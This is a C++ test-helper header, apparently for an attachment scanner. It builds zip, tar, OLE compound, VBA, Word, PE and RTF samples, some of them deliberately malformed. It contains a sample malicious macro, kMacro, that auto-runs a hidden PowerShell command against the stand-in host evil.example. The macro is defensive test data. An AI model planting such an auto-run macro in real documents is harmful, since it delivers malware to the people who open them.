#pragma once

#include <zlib.h>

#include <cstdint>
#include <fstream>
#include <iterator>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

// Small builders of the formats that attachments come in: sound files, and the same with one thing wrong.
namespace postern::testing {

inline std::string le(std::uint64_t value, int octets) {
  std::string out;
  for (int i = 0; i < octets; ++i) out += static_cast<char>(value >> (8 * i) & 0xff);
  return out;
}

inline std::string repeated(std::string_view piece, std::size_t times) {
  std::string out;
  out.reserve(piece.size() * times);
  for (std::size_t i = 0; i < times; ++i) out += piece;
  return out;
}

inline std::string utf16(std::string_view ascii) {
  std::string out;
  for (char c : ascii) {
    out += c;
    out += '\0';
  }
  return out;
}

// `window` -15: raw, 15: zlib, 31: gzip.
inline std::string deflated(std::string_view octets, int window) {
  z_stream z{};
  ::deflateInit2(&z, 9, Z_DEFLATED, window, 9, Z_DEFAULT_STRATEGY);
  std::string out(::deflateBound(&z, octets.size()) + 64, '\0');
  z.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(octets.data()));
  z.avail_in = static_cast<uInt>(octets.size());
  z.next_out = reinterpret_cast<Bytef*>(out.data());
  z.avail_out = static_cast<uInt>(out.size());
  ::deflate(&z, Z_FINISH);
  out.resize(z.total_out);
  ::deflateEnd(&z);
  return out;
}

struct ZipFile {
  std::string name;
  std::string content;
  bool stored = false;
  std::uint16_t flags = 0;
  std::string local_name = {};       // when it differs
  std::uint32_t declared = 0;        // size in both headers, 0: the real one
  bool unlisted = false;             // not in the directory
  std::string extra = {};            // of the directory
};

inline std::string zip(const std::vector<ZipFile>& files, const std::string& prefix = {}, const std::string& comment = {}) {
  std::string out = prefix, directory;
  std::size_t listed = 0;
  for (const auto& file : files) {
    std::string packed = file.stored ? file.content : deflated(file.content, -15);
    auto crc = static_cast<std::uint32_t>(::crc32(0, reinterpret_cast<const Bytef*>(file.content.data()), static_cast<uInt>(file.content.size())));
    std::uint32_t size = file.declared != 0 ? file.declared : static_cast<std::uint32_t>(file.content.size());
    std::string local = file.local_name.empty() ? file.name : file.local_name;
    std::string common = le(file.flags, 2) + le(file.stored ? 0 : 8, 2) + le(0, 4) + le(crc, 4) + le(packed.size(), 4) + le(size, 4);
    std::size_t offset = out.size() - prefix.size();
    out += "PK\x03\x04" + le(20, 2) + common + le(local.size(), 2) + le(0, 2) + local + packed;
    if (file.unlisted) continue;
    ++listed;
    directory += "PK\x01\x02" + le(20, 2) + le(20, 2) + common + le(file.name.size(), 2) + le(file.extra.size(), 2) + le(0, 2) + le(0, 2) + le(0, 2) + le(0, 4) + le(offset, 4) +
                 file.name + file.extra;
  }
  std::size_t begin = out.size() - prefix.size();
  return out + directory + "PK\x05\x06" + le(0, 4) + le(listed, 2) + le(listed, 2) + le(directory.size(), 4) + le(begin, 4) + le(comment.size(), 2) + comment;
}

inline std::string tar(const std::vector<std::pair<std::string, std::string>>& files, char type = '0') {
  std::string out;
  for (const auto& [name, content] : files) {
    std::string head(512, '\0');
    head.replace(0, name.size(), name);
    head.replace(100, 7, "0000644");
    head.replace(108, 7, "0000000");
    head.replace(116, 7, "0000000");
    char size[13];
    std::snprintf(size, sizeof size, "%011o", static_cast<unsigned>(content.size()));
    head.replace(124, 11, size, 11);
    head.replace(136, 11, "00000000000");
    head[156] = type;
    head.replace(257, 8, std::string("ustar\0" "00", 8));
    head.replace(148, 8, "        ");
    unsigned sum = 0;
    for (char c : head) sum += static_cast<unsigned char>(c);
    char text[9];
    std::snprintf(text, sizeof text, "%06o", sum);
    head.replace(148, 6, text, 6);
    head[154] = '\0';
    out += head + content + std::string((512 - content.size() % 512) % 512, '\0');
  }
  return out + std::string(1024, '\0');
}

// A compound file, MS-CFB version 3.  Storages are made for the paths that need them; siblings form a chain to the right.
class OleBuilder {
 public:
  void add(const std::string& path, const std::string& content) { streams_.emplace_back(path, content); }
  std::string root_clsid = std::string(16, '\0');

  std::string build() const {
    std::vector<Node> nodes{{"Root Entry", 5, {}, {}}};
    for (const auto& [path, content] : streams_) {
      std::size_t parent = 0, begin = 0;
      for (;;) {
        auto end = path.find('/', begin);
        std::string step = path.substr(begin, end == std::string::npos ? end : end - begin);
        bool last = end == std::string::npos;
        std::size_t found = 0;
        if (!last) {
          for (std::size_t child : nodes[parent].children) {
            if (nodes[child].name == step) found = child;
          }
        }
        if (found == 0) {
          found = nodes.size();
          nodes.push_back({step, last ? 2 : 1, {}, last ? content : std::string{}});
          nodes[parent].children.push_back(found);
        }
        parent = found;
        if (last) break;
        begin = end + 1;
      }
    }
    std::string mini;
    std::vector<std::uint32_t> mini_table;
    std::string sectors;
    std::vector<std::uint32_t> table;
    auto put = [&](const std::string& content) {
      if (content.empty()) return 0xfffffffeU;
      auto first = static_cast<std::uint32_t>(table.size());
      std::size_t count = (content.size() + 511) / 512;
      for (std::size_t i = 0; i < count; ++i) table.push_back(i + 1 == count ? 0xfffffffe : static_cast<std::uint32_t>(table.size() + 1));
      sectors += content + std::string(count * 512 - content.size(), '\0');
      return first;
    };
    std::vector<std::uint32_t> starts(nodes.size(), 0xfffffffe);
    for (std::size_t i = 1; i < nodes.size(); ++i) {
      const std::string& content = nodes[i].content;
      if (nodes[i].type != 2 || content.empty()) continue;
      if (content.size() >= 4096) {
        starts[i] = put(content);
        continue;
      }
      starts[i] = static_cast<std::uint32_t>(mini_table.size());
      std::size_t count = (content.size() + 63) / 64;
      for (std::size_t k = 0; k < count; ++k) mini_table.push_back(k + 1 == count ? 0xfffffffe : static_cast<std::uint32_t>(mini_table.size() + 1));
      mini += content + std::string(count * 64 - content.size(), '\0');
    }
    std::string mini_raw;
    for (auto number : mini_table) mini_raw += le(number, 4);
    while (mini_raw.size() % 512 != 0) mini_raw += le(0xffffffff, 4);
    std::uint32_t mini_start = put(mini_raw);
    starts[0] = put(mini);
    std::uint32_t directory = put(directory_of(nodes, starts, mini.size()));
    std::size_t fat_sectors = 1;
    while (fat_sectors * 128 < table.size() + fat_sectors) ++fat_sectors;
    std::string difat;
    for (std::size_t i = 0; i < 109; ++i) difat += le(i < fat_sectors ? table.size() + i : 0xffffffff, 4);
    std::string fat;
    for (auto number : table) fat += le(number, 4);
    for (std::size_t i = 0; i < fat_sectors; ++i) fat += le(0xfffffffd, 4);
    while (fat.size() < fat_sectors * 512) fat += le(0xffffffff, 4);
    std::string header = "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + std::string(16, '\0') + le(0x3e, 2) + le(3, 2) + le(0xfffe, 2) + le(9, 2) + le(6, 2) + std::string(6, '\0') + le(0, 4) +
                         le(fat_sectors, 4) + le(directory, 4) + le(0, 4) + le(4096, 4) + le(mini_start, 4) + le(mini_raw.size() / 512, 4) + le(0xfffffffe, 4) + le(0, 4) + difat;
    return header + sectors + fat;
  }

 private:
  struct Node {
    std::string name;
    int type;
    std::vector<std::size_t> children;
    std::string content;
  };

  std::string directory_of(const std::vector<Node>& nodes, const std::vector<std::uint32_t>& starts, std::size_t mini_size) const {
    std::vector<std::uint32_t> right(nodes.size(), 0xffffffff), child(nodes.size(), 0xffffffff);
    for (std::size_t i = 0; i < nodes.size(); ++i) {
      const auto& children = nodes[i].children;
      for (std::size_t k = 0; k < children.size(); ++k) {
        if (k == 0) child[i] = static_cast<std::uint32_t>(children[0]);
        else right[children[k - 1]] = static_cast<std::uint32_t>(children[k]);
      }
    }
    std::string out;
    for (std::size_t i = 0; i < nodes.size(); ++i) {
      std::string name = utf16(nodes[i].name);
      std::string clsid = i == 0 ? root_clsid : std::string(16, '\0');
      std::size_t size = i == 0 ? mini_size : nodes[i].content.size();
      out += name + std::string(64 - name.size(), '\0') + le(name.size() + 2, 2) + le(static_cast<std::uint64_t>(nodes[i].type), 1) + le(1, 1) + le(0xffffffff, 4) + le(right[i], 4) +
             le(child[i], 4) + clsid + std::string(4 + 16, '\0') + le(starts[i], 4) + le(size, 8);
    }
    while (out.size() % 512 != 0) out += std::string(68, '\0') + le(0xffffffff, 4) + le(0xffffffff, 4) + le(0xffffffff, 4) + std::string(48, '\0');
    return out;
  }

  std::vector<std::pair<std::string, std::string>> streams_;
};

// A container of literals alone, MS-OVBA 2.4.1.
inline std::string vba_container(std::string_view source) {
  std::string out("\x01", 1);
  while (!source.empty()) {
    std::string_view piece = source.substr(0, 3600);
    source.remove_prefix(piece.size());
    std::string chunk;
    for (std::size_t i = 0; i < piece.size(); i += 8) chunk += '\0' + std::string(piece.substr(i, 8));
    out += le(0xb000U | (chunk.size() + 2 - 3), 2) + chunk;
  }
  return out;
}

inline std::string vba_dir(const std::string& module, std::uint32_t offset) {
  std::string dir = le(0x09, 2) + le(4, 4) + le(1, 4) + le(2, 2);
  dir += le(0x19, 2) + le(module.size(), 4) + module;
  dir += le(0x1a, 2) + le(module.size(), 4) + module + le(0x32, 2) + le(module.size() * 2, 4) + utf16(module);
  dir += le(0x31, 2) + le(4, 4) + le(offset, 4);
  return dir + le(0x2b, 2) + le(0, 4);
}

// A project with one module whose source stands behind `code` octets of compiled code.
inline void add_vba(OleBuilder& ole, const std::string& storage, const std::string& source, std::size_t code = 16) {
  ole.add(storage + "VBA/dir", vba_container(vba_dir("ThisDocument", static_cast<std::uint32_t>(code))));
  ole.add(storage + "VBA/_VBA_PROJECT", "\xcc\x61\xff\xff");
  ole.add(storage + "VBA/ThisDocument", std::string(code, 'x') + vba_container(source));
}

inline const std::string kMacro =
    "Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n  Set s = CreateObject(\"WScript.Shell\")\r\n  s.Run \"powershell -w hidden http://evil.example/x.ps1\"\r\nEnd Sub\r\n";

inline std::string word_document(const std::string& text = {}, std::uint16_t flags = 0) {
  std::string fib = le(0xa5ec, 2) + le(0xc1, 2) + std::string(6, '\0') + le(flags, 2);
  return fib + std::string(512 - fib.size(), '\0') + text + std::string(4096, '\0');
}

// The smallest program that is one: MZ, and PE where e_lfanew says.
inline std::string program() {
  std::string out = "MZ" + std::string(58, '\0') + le(64, 4);
  return out + "PE" + std::string(2, '\0') + std::string(200, 'x');
}

inline std::string ole_package_of(const std::string& label, const std::string& content, bool with_size = true) {
  std::string body = le(2, 2) + label + '\0' + "C:\\tmp\\" + label + '\0' + le(0, 2) + le(3, 2) + le(label.size() + 8, 4) + "C:\\tmp\\" + label + '\0' + le(content.size(), 4) + content;
  return with_size ? le(body.size(), 4) + body : body;
}

inline std::string hex_of(std::string_view octets) {
  static constexpr char kDigits[] = "0123456789abcdef";
  std::string out;
  for (char c : octets) {
    out += kDigits[static_cast<unsigned char>(c) >> 4];
    out += kDigits[static_cast<unsigned char>(c) & 15];
  }
  return out;
}

// An OLE 1.0 object as RTF has it.
inline std::string rtf_object_data(const std::string& class_name, const std::string& content) {
  return le(0x501, 4) + le(2, 4) + le(class_name.size() + 1, 4) + class_name + '\0' + le(0, 4) + le(0, 4) + le(content.size(), 4) + content;
}

inline std::string file_at(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  return {std::istreambuf_iterator<char>(in), {}};
}

// Of about `count` lengths, the whole one last.
template <class Work>
void at_each_length(const std::string& octets, std::size_t count, Work work) {
  std::size_t step = std::max<std::size_t>(octets.size() / count, 1);
  for (std::size_t length = 0; length < octets.size(); length += step) work(std::string_view(octets).substr(0, length));
  work(std::string_view(octets));
}

}  // namespace postern::testing
